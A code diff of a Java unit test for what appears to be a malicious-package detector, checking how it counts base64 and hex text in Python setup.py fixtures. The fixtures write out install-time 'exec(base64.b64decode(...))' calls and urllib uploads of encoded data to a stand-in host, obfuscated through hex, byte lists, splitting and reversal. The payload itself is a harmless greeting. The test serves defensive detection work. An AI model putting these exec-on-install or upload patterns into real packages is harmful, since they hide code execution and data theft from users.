@@ -7,12 +7,15 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.nio.charset.StandardCharsets;
 import java.util.Base64;
 import java.util.HexFormat;
+import java.util.List;
 import java.util.StringJoiner;
 import org.junit.jupiter.api.Test;
 
 /**
- * The base64 and hex chunk features describe the encoded text a setup script decodes, however the script writes it:
- * as a literal, or re-encoded as hex, as a byte list, in pieces, reversed. Hand-written, harmless fixtures; nothing runs.
+ * The base64 and hex chunk features count encoded text the code holds but does not decode in sight, however the code
+ * writes it: as a literal, re-encoded as hex, as a byte list, in pieces, reversed. Text a decoder in sight consumes
+ * counts as what it decodes to (a payload), so string obfuscation, which encodes literals, adds no chunk.
+ * Hand-written, harmless fixtures; nothing runs.
  */
 class EncodedTextFeaturesTest {
 
@@ -23,14 +26,35 @@ class EncodedTextFeaturesTest {
     static final String PAYLOAD = GREETING + ".".repeat(135 - GREETING.length());
     static final String ENCODED = Base64.getEncoder().encodeToString(PAYLOAD.getBytes(StandardCharsets.UTF_8));
 
+    /** A setup script that decodes the text and runs it. */
     static FeatureResult setupDecoding(String encodedExpression) {
-        FeatureResult r = FEATURIZER.featurize(pkg("demo-1.0/setup.py", lines(
+        return featurize(lines(
                 "import base64",
                 "from setuptools import setup",
                 "exec(base64.b64decode(" + encodedExpression + "))",
-                "setup(name='demo', version='1.0')")));
+                "setup(name='demo', version='1.0')"));
+    }
+
+    /** A setup script that sends the text away as it is. */
+    static FeatureResult setupSending(String encodedExpression) {
+        return featurize(lines(
+                "import base64, urllib.request",
+                "from setuptools import setup",
+                "urllib.request.urlopen('https://example.com/upload', data=(" + encodedExpression + ").encode())",
+                "setup(name='demo', version='1.0')"));
+    }
+
+    static FeatureResult featurize(String setup) {
+        FeatureResult r = FEATURIZER.featurize(pkg("demo-1.0/setup.py", setup));
         assertThat(r.partial()).as("partial: %s", r.notes()).isFalse();
         return r;
+    }
+
+    static void assertDecodedWithoutChunks(FeatureResult r) {
+        assertThat(r.value("install_dec_payloads")).as("the payload is decoded").isEqualTo(1);
+        assertThat(r.value("install_base64_chunks")).isZero();
+        assertThat(r.value("install_base64_chunk_length_max")).isZero();
+        assertThat(r.value("install_hex_chunks")).isZero();
     }
 
     static void assertSameChunksAsTheLiteral(FeatureResult r) {
@@ -43,6 +67,10 @@ class EncodedTextFeaturesTest {
         return "'" + s + "'";
     }
 
+    static String hex(String s) {
+        return HexFormat.of().formatHex(s.getBytes(StandardCharsets.US_ASCII));
+    }
+
     static String byteList(String s) {
         StringJoiner list = new StringJoiner(", ", "[", "]");
         for (byte b : s.getBytes(StandardCharsets.US_ASCII)) {
@@ -51,48 +79,48 @@ class EncodedTextFeaturesTest {
         return list.toString();
     }
 
-    @Test
-    void shouldCountTheBase64LiteralOnceWhenItIsDecodedInPlace() {
-        assertThat(PAYLOAD).hasSize(135);
-        assertSameChunksAsTheLiteral(setupDecoding(quoted(ENCODED)));
-    }
-
-    @Test
-    void shouldSeeTheSameBase64TextThroughAHexReEncoding() {
-        String hex = HexFormat.of().formatHex(ENCODED.getBytes(StandardCharsets.US_ASCII));
-        assertSameChunksAsTheLiteral(setupDecoding("bytes.fromhex(" + quoted(hex) + ").decode()"));
-    }
-
-    @Test
-    void shouldSeeTheSameBase64TextThroughAByteList() {
-        assertSameChunksAsTheLiteral(setupDecoding("bytes(" + byteList(ENCODED) + ").decode('utf-8')"));
-    }
-
-    @Test
-    void shouldCountSplitPiecesAsTheTextTheyJoinInto() {
-        String a = ENCODED.substring(0, 60);
-        String b = ENCODED.substring(60, 125);
-        String c = ENCODED.substring(125);
-        assertSameChunksAsTheLiteral(setupDecoding("''.join([" + quoted(a) + ", " + quoted(b) + ", " + quoted(c) + "])"));
-        assertSameChunksAsTheLiteral(setupDecoding(quoted(a) + " + " + quoted(b) + " + " + quoted(c)));
-    }
-
-    @Test
-    void shouldSeeTheSameBase64TextThroughAReversalOrABase64ReEncoding() {
-        assertSameChunksAsTheLiteral(setupDecoding(quoted(new StringBuilder(ENCODED).reverse().toString()) + "[::-1]"));
+    /** The ways {@link #ENCODED} is written below: as a literal, and folded from re-encodings, pieces, a reversal. */
+    static List<String> writings() {
         String twice = Base64.getEncoder().encodeToString(ENCODED.getBytes(StandardCharsets.US_ASCII));
-        assertSameChunksAsTheLiteral(setupDecoding("base64.b64decode(" + quoted(twice) + ").decode('utf-8')"));
+        return List.of(
+                quoted(ENCODED),
+                "bytes.fromhex(" + quoted(hex(ENCODED)) + ").decode()",
+                "bytes(" + byteList(ENCODED) + ").decode('utf-8')",
+                "''.join([" + quoted(ENCODED.substring(0, 60)) + ", " + quoted(ENCODED.substring(60, 125)) + ", "
+                        + quoted(ENCODED.substring(125)) + "])",
+                quoted(ENCODED.substring(0, 60)) + " + " + quoted(ENCODED.substring(60)),
+                quoted(new StringBuilder(ENCODED).reverse().toString()) + "[::-1]",
+                "base64.b64decode(" + quoted(twice) + ").decode('utf-8')");
     }
 
     @Test
-    void shouldSeeTheSameBase64TextWhenTheReEncodedTextIsKeptInAVariable() {
-        String hex = HexFormat.of().formatHex(ENCODED.getBytes(StandardCharsets.US_ASCII));
-        FeatureResult r = FEATURIZER.featurize(pkg("demo-1.0/setup.py", lines(
+    void textDecodedInSightCountsAsWhatItDecodesToHoweverItIsWritten() {
+        assertThat(PAYLOAD).hasSize(135);
+        for (String writing : writings()) {
+            assertDecodedWithoutChunks(setupDecoding(writing));
+        }
+    }
+
+    @Test
+    void textSentAwayUndecodedCountsOnceHoweverItIsWritten() {
+        for (String writing : writings()) {
+            assertSameChunksAsTheLiteral(setupSending(writing));
+        }
+    }
+
+    @Test
+    void aReEncodingKeptInAVariableIsSeenThroughToTheDecoder() {
+        FeatureResult r = featurize(lines(
                 "import base64",
-                "BLOB = bytes.fromhex(" + quoted(hex) + ").decode()",
-                "exec(base64.b64decode(BLOB))")));
-        assertSameChunksAsTheLiteral(r);
-        assertThat(r.evidenceFor("install_base64_chunk_length_max"))
+                "BLOB = bytes.fromhex(" + quoted(hex(ENCODED)) + ").decode()",
+                "exec(base64.b64decode(BLOB))"));
+        assertDecodedWithoutChunks(r);
+        FeatureResult sent = featurize(lines(
+                "import urllib.request",
+                "BLOB = bytes.fromhex(" + quoted(hex(ENCODED)) + ").decode()",
+                "urllib.request.urlopen('https://example.com/upload', data=BLOB.encode())"));
+        assertSameChunksAsTheLiteral(sent);
+        assertThat(sent.evidenceFor("install_base64_chunk_length_max"))
                 .anySatisfy(e -> assertThat(e.getLine()).isEqualTo(2));
     }
 
